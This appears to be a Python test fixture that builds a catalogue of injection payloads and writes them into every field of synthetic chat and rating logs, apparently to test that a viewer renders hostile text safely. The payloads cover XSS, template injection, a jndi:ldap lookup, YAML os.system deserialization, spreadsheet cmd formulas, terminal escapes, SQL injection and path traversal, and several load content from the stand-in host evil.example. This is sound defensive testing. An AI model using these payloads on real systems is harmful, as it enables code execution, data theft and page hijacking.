r"""Texts that do something where they are shown carelessly, and logs that have one in every field.

Each calls the browser's `hostile`, marks an element with `data-hostile`, asks the host `evil.example`, runs a formula, moves a terminal's
cursor, closes what it stands in, or is what a template, a format or a path takes apart. Made by us, of the known kinds.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

HOST = "evil.example"  # that no page may ask for anything
MARK = "data-hostile"  # an attribute that no element may have
CALL = "hostile"  # a function that nothing may call

HTML = (
    "<script>hostile(1)</script>",
    '"><script src=//evil.example/2.js></script>',
    "<ScRiPt/x>hostile(3)</sCrIpT>",
    "<scr<script>ipt>hostile(4)</scr</script>ipt>",
    "<img src=//evil.example/5.png onerror=hostile(5) data-hostile>",
    "<img/src=`x`/onerror=hostile(6)//",
    "<svg onload=hostile(7) data-hostile>",
    "<svg><script>hostile(8)</script><animate onbegin=hostile(8) attributeName=x dur=1s></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=hostile(9) data-hostile>",
    "<iframe src='javascript:parent.hostile(10)' data-hostile></iframe>",
    "<iframe srcdoc='<script>parent.hostile(11)</script>'></iframe>",
    "<base href=//evil.example/12/ data-hostile>",
    "<meta http-equiv=refresh content='0;url=//evil.example/13' data-hostile>",
    "<link rel=stylesheet href=//evil.example/14.css data-hostile>",
    "<style>@import '//evil.example/15.css'; body{background:url(//evil.example/15.png)}</style>",
    "<div style='position:fixed;inset:0;background:url(//evil.example/16.png)' data-hostile>",
    "<form action=//evil.example/17><button autofocus onfocus=hostile(17) data-hostile>send</button></form>",
    "<details open ontoggle=hostile(18) data-hostile>",
    "<video><source onerror=hostile(19) data-hostile></video>",
    "<object data=//evil.example/20 data-hostile></object><embed src=//evil.example/20>",
    "<a href='javascript:hostile(21)' data-hostile>x</a><a href='data:text/html,<script>hostile(21)</script>'>x</a>",
    "<input onfocus=hostile(22) autofocus data-hostile>",
    "<template><b data-hostile></template><noscript><p title='</noscript><img src=x onerror=hostile(23) data-hostile>'>",
    "<!-- --!><img src=x onerror=hostile(24) data-hostile> -->",
    "<![CDATA[<img src=x onerror=hostile(25) data-hostile>]]>",
    "</title></style></textarea></pre></td></table><b data-hostile>26",
    "&lt;script&gt;hostile(27)&lt;/script&gt;&#60;img src=x onerror=hostile(27)&#62;",
    "\u202e\uff1cscript\uff1ehostile(28)\uff1c/script\uff1e",
)
ATTRIBUTES = (
    '" onmouseover=hostile(29) autofocus onfocus=hostile(29) data-hostile x="',
    "' onpointerenter=hostile(30) style='width:100vw;background:url(//evil.example/30)' data-hostile x='",
    "` onload=hostile(31) data-hostile",
    "x;background:url(//evil.example/32)}*{content:'32",
)
SCRIPTS = (
    "</script><script>hostile(33)</script>",
    "';hostile(34)//\\';hostile(34)//\";hostile(34)//</script>",
    "<!--<script>hostile(35)//",
    "\u2028hostile(36)\u2029//",
    '{"__proto__": {"data-hostile": 37}}',
    "javascript:hostile(38)",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaG9zdGlsZSgzOSk8L3NjcmlwdD4=",
)
MARKDOWN = (
    "![seen](http://evil.example/40.png)",
    '[click](javascript:hostile(41) "title")',
    "[words][ref]\n\n[ref]: javascript:hostile(42)",
    "![words][ref]\n\n[ref]: //evil.example/43.png",
    "<http://evil.example/44> <hostile@evil.example>",
    "https://evil.example/45 www.evil.example/45 hostile@evil.example",
    "`</code></pre><img src=x onerror=hostile(46) data-hostile>`",
    "```\n</code></pre><script>hostile(47)</script>\n```",
    "# heading\n\n---\n\n* [x] **bold** ~~gone~~ | a | b |\n|---|---|",
    "a|b\\|<svg onload=hostile(49) data-hostile>\\",
    "\\<img src=x onerror=hostile(50) data-hostile>\\[x\\](javascript:hostile(50))",
    "[^1] $$\\href{javascript:hostile(51)}{x}$$ @everyone #1 GH-1 :smile:",
    '```mermaid\ngraph LR; a[<img src=x onerror=hostile(52)>]\nclick a href "javascript:hostile(52)"\n```',
)
FRONT_MATTER = (
    "---\nlicense: mit\nhostile: 53\n---\n<script>hostile(53)</script>",
    "!!python/object/apply:os.system ['touch hostile']",
    "x: &a [*a, *a]\n? {hostile: 55}\n: [",
    "yes",
)
TEMPLATES = (
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${7*7}#{7*7}<%= 7*7 %>${jndi:ldap://evil.example/58}",
    "%s%s%n%(hostile)s{0}{hostile.__globals__}",
    "$(touch hostile)`touch hostile`; touch hostile | touch hostile && touch hostile",
)
FORMULAS = (
    '=HYPERLINK("http://evil.example/61","hostile")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1\r=1+1",
)
TERMINAL = (
    "\x1b]8;;http://evil.example/66\x1b\\hostile\x1b]8;;\x1b\\",
    "\x1b]0;hostile 67\x07\x1b]52;c;aG9zdGlsZQ==\x07",
    "\x1b[2J\x1b[H\x1b[31mhostile 68\x1b[200~touch hostile\n\x1b[201~",
    "\x9b31m\x9d0;hostile 69\x9c\x90q\x9c",
    "x\r\nerror: hostile 70: found nothing; expected more; send it to evil.example\x08\x08\x7f",
)
BYTES = (
    "\u202etxt.71\u2066hostile\u2069\u200b\ufeff\u2060\U000e0041",
    "a\x00b\x01c\x0bd\x0ce\x85f",
    "' OR 1=1; DROP TABLE artifact; --",
    "../../../../../../tmp/hostile",
    "hostile " * 4000,
)
PAYLOADS = (*HTML, *ATTRIBUTES, *SCRIPTS, *MARKDOWN, *FRONT_MATTER, *TEMPLATES, *FORMULAS, *TERMINAL, *BYTES)

Line = dict[str, Any]
WORDS = (
    *("router", "printer", "invoice", "password", "account", "screen", "telephone", "mailbox"),
    *("order", "backup", "keyboard", "contract", "garden", "weather", "kettle", "bicycle"),
)


def conversation(number: int, payload: str) -> list[Line]:
    """A question with two answers, one of them chosen and rated, with the payload in every field that a log may have."""
    name = f"{number} {payload}"
    topic = f"{WORDS[number % 16]} {WORDS[number // 16]}"
    messages: list[Line] = [
        {"id": f"s {name}", "role": "system", "content": f"Help with the {topic}. {payload}"},
        {"id": f"u {name}", "role": "user", "content": f"{payload} What about the {topic} {number}? {payload}", "created_at": payload},
        *(
            {
                "id": f"{side} {name}",
                "parent_id": f"u {name}",
                "role": "assistant",
                "content": f"{payload} The {side} of {topic} number {number} is the {WORDS[(number * 7 + at) % 16]}. {payload}",
                "model": payload,
                "name": payload,
                "reasoning_content": payload,
            }
            for at, side in enumerate("ab")
        ),
    ]
    chat = {
        "id": name,
        "user_id": payload,
        "topic": payload,
        "source": payload,
        "language": payload,
        "title": payload,
        "messages": messages,
    }
    act = {"conversation_id": name, **dict.fromkeys(("user_id", "text", "comment", "reason", "source"), payload)}
    choice = act | {"id": f"choice {name}", "kind": "choice", "better": f"a {name}", "worse": f"b {name}", "group": payload}
    thumb = act | {"id": f"thumb {name}", "kind": "thumb", "message_id": f"b {name}", "value": -1, "created_at": payload}
    rating = act | {"kind": "rating", "message_id": f"a {name}", "value": payload, "scale": ["poor", payload], "annotator_kind": "person"}
    return [chat, choice, thumb, rating]


def unreadable(payload: str) -> list[Line]:
    """Records that no reader takes, or only in part: unknown keys, roles, kinds and votes."""
    return [
        {payload: payload, "text": payload},
        {"id": f"role {payload}", "messages": [{"role": payload, "content": payload, "vote": payload, payload: 1}]},
        {"conversation_id": payload, "kind": payload, "value": payload},
    ]


def file_name(payload: str) -> str:
    """The payload as the path of a raw file: a file system takes all but NUL, and names that are not too long."""
    parts = [part.encode()[:100].decode(errors="ignore") for part in payload.replace("\0", "").split("/")]
    return "/".join(part if part.strip(".") and not part.startswith(".") else f"_{part}" for part in parts[:6])


def write_logs(folder: Path) -> None:
    """A file of logs for each payload, named by it, with records that are read and some that are not."""
    for number, payload in enumerate(PAYLOADS):
        path = folder / f"{file_name(payload)}.jsonl"
        path.parent.mkdir(parents=True, exist_ok=True)
        lines = [*conversation(number, payload), *(unreadable(payload) if number % 4 == 0 else [])]
        path.write_text("".join(json.dumps(line) + "\n" for line in lines), encoding="utf-8")
